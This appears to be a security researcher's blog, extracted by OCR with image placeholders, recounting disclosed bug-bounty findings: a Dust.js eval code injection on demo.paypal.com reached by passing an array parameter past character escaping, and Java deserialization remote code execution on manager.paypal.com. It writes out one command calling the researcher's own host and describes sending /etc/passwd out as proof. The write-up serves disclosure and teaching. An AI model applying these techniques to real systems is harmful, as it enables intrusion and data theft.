Tuesday, August 22, 2023

mTLS: When certificate authentication is done wrong


In 2023 I spent some time researching x509 certificate authentication, which resulted in a number of vulnerabilities in open source projects. The details are in the article I wrote at GitHub.

Saturday, August 10, 2019

Apache Solr Injection @ DEFCON 27


A brand new vulnerability - Apache Solr Injection, as well as new ways to RCE in this innocent looking search engine.

Here is the whitepaper and the video from my presentation at DEFCON 27.

Friday, August 19, 2016

[demo.paypal.com] Node.js code injection (RCE)

When I am trying to find vulnerabilities in web applications, I always perform fuzzing of all http parameters, and sometimes it gives me something interesting:

The demo.paypal.com server was responding differently for '\' and '%0a' requests and was throwing a 'syntax error' in responses. At the same time for single quote, double quote and other characters the server was responding with HTTP 200OK.

From error messages I found out that PayPal Node.js application uses Dust.js javascript templating engine on server-side, so I decided to take a look. After looking at its source codeon github, I figured out that the problem is connected with using "if" dust.js helpers.

The old version of Dust.js supports "if" helpers, you can use them in your code like that:

And the "if" helper internally uses javascript eval, for complex expression evaluation:

Eval! Yeah, why not? It's a simple and elegant solution.

So when I send a request to http://_demo.paypal.com/demo/navigation?device=xxx\ application is trying to evaluate the following javascript expression:

Which throws a syntax error.

Does that mean that usersupplied input comes to eval() directly? Not actually, the application performed replacement for several dangerous characters like single quote (') and double quote (") with html encoding (' -> '), so we cannot directly close the string and execute arbitrary javascript code. But let's look closer at the function that makes this replacement:


Hmmm, but what if the 's' parameter is not a string? In Node.js we can send a request like paypal.com/?device[]=1&device[]=2 and the 'device' parameter will be parsed by qs module as an Array, instead of string.

I quickly made a request to https://_demo.paypal.com/demo/navigation?device[]=&device[]=' and when the server responded with 'syntax error' my chair started to shake under me.

I am a bit friendly with Node.js, so it took me few minutes to craft a test payload that sends '/etc/passwd' file to my server.


This string was worth $10.000 for me.

Monday, January 25, 2016

[manager.paypal.com] Remote Code Execution Vulnerability

In December 2015, I found a critical vulnerability in one of PayPal business websites (manager.paypal.com). It allowed me to execute arbitrary shell commands on PayPal web servers via unsafe JAVA object deserialization and to access production databases. I immediately reported this bug to PayPal security team and it was fixed promptly.While testing manager.paypal.com application, I noticed an unusual post form parameter “oldFormData” that looks like a complex object after base64 decoding:

The following research showed that it is a Java serialized object without any signature. It means you can send a serialized object of any existing class to the server, and the “readObject” (or “readResolve”) method of that class will be called. For exploitation, you need to find a suitable class in the application “classpath” which can be serialized and has something interesting (from exploitation point of view) in the “readObject” method. You can read about this technique in the recent article by FoxGlove Security. A year ago, Chris Frohoff (@frohoff) and Gabriel Lawrence (@gebl) did a great job and found suitable classes in Commons Collections library that could lead to remote code execution. They also published the “ysoserial” payload generation tool on their github page.


I downloaded this tool and generated a simple payload that sends DNS and HTTP requests to my own server by executing the “curl x.s.artsploit.com/paypal” shell command.Then I sent the base64 encoded payload in the “oldFormData” parameter to the application server and was impressed by an incoming request from the PayPal network that appeared in my NGINX access log:

I realized that I could execute arbitrary OS commands on the web servers of manager.paypal.com, establish a back connection to my own Internet server and, for example, upload and execute a backdoor. As a result, I could get access to production databases used by the manager.paypal.com application.Instead, I just read “/etc/passwd” file by sending it to my server as a proof of the vulnerability:

I also recorded a video how to reproduce this vulnerability and reported it to the PayPal security team.
Later, I found out that many other endpoints of the manager.paypal.com application also use serialized objects and can be exploited as well.

In a month, my report received a Duplicate status because another researcher, Mark Litchfield, reported a similar vulnerability two days earlier than I did (on December 11, 2015). PayPal decided to pay me a good bounty anyway, andI have nothing but respect for them.